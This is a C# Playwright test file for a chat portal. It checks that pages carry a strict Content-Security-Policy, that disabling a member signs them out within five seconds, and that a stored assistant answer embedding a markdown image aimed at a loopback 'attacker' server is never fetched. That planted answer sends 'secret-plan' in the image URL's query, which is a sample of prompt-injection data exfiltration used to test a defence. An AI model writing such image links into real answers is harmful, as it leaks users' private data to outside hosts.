using System.Net;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Portal.Inference.Gguf;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Microsoft.Playwright;
using Portal.Domain.Chat;
using Portal.Tests.Inference.Gguf;
using Portal.Tests.Web.Browser;
using Portal.Tests.Web.Chat;
using Portal.Tests.Web.Hosting;

namespace Portal.Tests.Web.Security;

/// <summary>
/// Finding 7 in Debian's Chromium: every page carries the Content-Security-Policy; chat (streaming an
/// answer), the members page and a model upload work under it without one violation; and a stored
/// answer with a remote image never makes the browser call the "attacker" (a loopback server of the test's).
/// </summary>
public sealed class SecurityBrowserTests(ChromiumFixture chromium, ChatApp app) : IClassFixture<ChromiumFixture>, IClassFixture<ChatApp>, IDisposable
{
    private const float Timeout = 60_000; // a guard against hanging on a loaded machine, not a measurement

    private readonly TempDirectory _files = new();

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public void Dispose() => _files.Dispose();

    [Fact]
    public async Task Pages_UnderContentSecurityPolicy_WorkWithoutViolationAndFetchNoRemoteImage()
    {
        await using var attacker = await Attacker.StartAsync();
        var conversationId = await StoreAnswerWithRemoteImageAsync(attacker.LeakUrl);
        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { BaseURL = app.BaseAddress.ToString() });
        context.SetDefaultTimeout(Timeout);
        await context.AddInitScriptAsync("document.addEventListener('securitypolicyviolation', e => (window.__csp = window.__csp || []).push(e.violatedDirective + ' ' + e.blockedURI))");
        var page = await context.NewPageAsync();
        var violations = new List<string>();
        page.Console += (_, message) =>
        {
            if (message.Text.Contains("Content Security Policy", StringComparison.OrdinalIgnoreCase) || message.Text.Contains("Content-Security-Policy", StringComparison.OrdinalIgnoreCase))
            {
                violations.Add(message.Text);
            }
        };
        var documents = new List<(string Url, string? Csp)>();
        page.Response += (_, response) =>
        {
            if (response.Request.ResourceType == "document")
            {
                documents.Add((response.Url, response.Headers.TryGetValue("content-security-policy", out var csp) ? csp : null));
            }
        };

        await page.GotoAsync("account/signin");
        await page.FillAsync("#email", PortalAppFactory.AdminEmail);
        await page.FillAsync("#password", PortalAppFactory.AdminPassword);
        await page.ClickAsync("form.signin-form button[type=submit]");
        await page.WaitForURLAsync(url => !url.Contains("/account/", StringComparison.Ordinal), ChromiumFixture.UrlCommitted);

        // The stored answer with the remote image: shown, and the attacker hears nothing.
        await page.GotoAsync($"chat/{conversationId}");
        await page.WaitForFunctionAsync("() => window.Blazor !== undefined");
        var hostile = page.Locator("[data-testid=message][data-role=assistant] [data-testid=content]");
        await hostile.Filter(new LocatorFilterOptions { HasText = "Here is the chart" }).WaitForAsync();
        Assert.Equal(0, await hostile.Locator("img").CountAsync());

        // Chat works: a new chat (/chat) streams an answer; its first message starts the conversation.
        await PortalPages.OpenAsync(page, "chat");
        var input = page.Locator("textarea[data-testid=input]");
        var send = page.Locator("[data-testid=send]");
        for (var attempt = 0; attempt < 60 && !await send.IsEnabledAsync(); attempt++)
        {
            await input.FillAsync("");
            await input.FillAsync("Hello under a strict policy.");
            await page.WaitForTimeoutAsync(250);
        }

        await send.ClickAsync();
        await PortalPages.FirstMessageSentAsync(page);
        await page.WaitForFunctionAsync("() => [...document.querySelectorAll('[data-testid=message][data-role=assistant] [data-testid=content]')].some(e => e.textContent.length > 0)");

        // Members page: interactive and listing the members.
        await page.GotoAsync("admin/members");
        await page.WaitForFunctionAsync("() => window.Blazor !== undefined");
        await page.Locator(".members-table").WaitForAsync();

        // Upload page: a model uploaded through the page's JS module.
        var modelFile = _files.File("csp-model.gguf");
        TestModels.WriteTinyLlama(modelFile, seed: 4242);
        await PortalPages.OpenAsync(page, "admin/models");
        // Choosing a file starts the upload once the circuit has attached the drop zone: choose until it is under way.
        var started = page.Locator(".upload-progress:not([data-phase=Failed])");
        for (var attempt = 0; attempt < 40 && !await started.IsVisibleAsync(); attempt++)
        {
            await page.SetInputFilesAsync("#model-file", modelFile);
            await page.WaitForTimeoutAsync(250);
        }

        await page.Locator(".upload-progress[data-phase=Completed]").WaitForAsync();
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(Path.GetTempPath(), "portal-security-upload.png") });

        await page.GotoAsync("admin/tenants");
        await page.GotoAsync("");
        await page.WaitForFunctionAsync("() => window.Blazor !== undefined");

        Assert.NotEmpty(documents);
        Assert.All(documents, d => Assert.True(d.Csp is { } csp && csp.Contains("script-src 'self' 'nonce-", StringComparison.Ordinal), $"{d.Url} has no Content-Security-Policy."));
        Assert.Empty(violations);
        Assert.Null(await page.EvaluateAsync<string[]?>("() => window.__csp ?? null"));
        Assert.Equal(0, attacker.Requests);
    }

    /// <summary>Finding 3: disabling a member reaches their open chat page on this instance within 5 seconds.</summary>
    [Fact]
    public async Task OpenChatPage_MemberDisabled_CannotSendWithinFiveSeconds()
    {
        var email = $"{Guid.NewGuid():N}@portal.test";
        var member = await app.Factory.CreateLocalUserAsync(email, ChatApp.Password, Portal.Domain.Tenants.TenantRoles.Member);
        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { BaseURL = app.BaseAddress.ToString() });
        context.SetDefaultTimeout(Timeout);
        var page = await context.NewPageAsync();
        await page.GotoAsync("account/signin");
        await page.FillAsync("#email", email);
        await page.FillAsync("#password", ChatApp.Password);
        await page.ClickAsync("form.signin-form button[type=submit]");
        await page.WaitForURLAsync(url => !url.Contains("/account/", StringComparison.Ordinal), ChromiumFixture.UrlCommitted);
        await PortalPages.OpenAsync(page, "chat");
        await page.Locator("textarea[data-testid=input]").WaitForAsync();

        var (admin, membership) = await app.Factory.QueryAsync(async db => (
            await db.PortalUsers.SingleAsync(u => u.Email == PortalAppFactory.AdminEmail, Ct),
            await db.Memberships.SingleAsync(m => m.UserId == member.Id, Ct)));
        await using (var scope = app.Factory.Services.CreateAsyncScope())
        {
            await scope.ServiceProvider.GetRequiredService<Portal.Web.Admin.MemberAdministration>().SetDisabledAsync(
                new Portal.Web.Admin.AdminActor(admin.Id, true, null, false), membership.TenantId, membership.Id, true, Ct);
        }

        // The bound the issue sets: within 5 seconds the page has left the chat for the sign-in page.
        await page.WaitForURLAsync(url => url.Contains("/account/signin", StringComparison.Ordinal), new PageWaitForURLOptions { Timeout = 5_000, WaitUntil = WaitUntilState.Commit });
        Assert.Equal(0, await page.Locator("[data-testid=send]").CountAsync());
    }

    private async Task<Guid> StoreAnswerWithRemoteImageAsync(string leakUrl) =>
        await app.Factory.QueryAsync(async db =>
        {
            var admin = await db.PortalUsers.SingleAsync(u => u.Email == PortalAppFactory.AdminEmail, Ct);
            var membership = await db.Memberships.FirstAsync(m => m.UserId == admin.Id, Ct);
            var workspace = await db.Workspaces.FirstOrDefaultAsync(w => w.TenantId == membership.TenantId, Ct)
                ?? db.Workspaces.Add(new Workspace { TenantId = membership.TenantId, Name = "General", CreatedAt = DateTimeOffset.UtcNow }).Entity;
            var conversation = new Conversation { TenantId = membership.TenantId, WorkspaceId = workspace.Id, OwnerUserId = admin.Id, Title = "Injected", CreatedAt = DateTimeOffset.UtcNow, UpdatedAt = DateTimeOffset.UtcNow };
            conversation.Messages.Add(new Message { TenantId = membership.TenantId, Role = MessageRole.User, Content = "Summarise my secret plan.", CreatedAt = DateTimeOffset.UtcNow });
            conversation.Messages.Add(new Message
            {
                TenantId = membership.TenantId,
                Role = MessageRole.Assistant,
                Content = $"Here is the chart ![chart]({leakUrl}?q=secret-plan) and more text.",
                CreatedAt = DateTimeOffset.UtcNow.AddSeconds(1),
            });
            db.Conversations.Add(conversation);
            await db.SaveChangesAsync(Ct);
            return conversation.Id;
        });

    /// <summary>A loopback server standing for the site a prompt injection would leak to: it counts what it is asked.</summary>
    private sealed class Attacker : IAsyncDisposable
    {
        private readonly WebApplication _app;
        private int _requests;

        private Attacker(WebApplication app) => _app = app;

        public int Requests => Volatile.Read(ref _requests);

        public string LeakUrl { get; private set; } = "";

        public static async Task<Attacker> StartAsync()
        {
            var builder = WebApplication.CreateSlimBuilder();
            builder.Logging.ClearProviders();
            builder.WebHost.ConfigureKestrel(k => k.Listen(IPAddress.Loopback, 0));
            var app = builder.Build();
            var attacker = new Attacker(app);
            app.Run(context =>
            {
                Interlocked.Increment(ref attacker._requests);
                context.Response.ContentType = "image/gif";
                return Task.CompletedTask;
            });
            await app.StartAsync(Ct);
            var address = app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.Single();
            attacker.LeakUrl = $"{address.TrimEnd('/')}/leak.gif";
            return attacker;
        }

        public async ValueTask DisposeAsync() => await _app.DisposeAsync();
    }
}
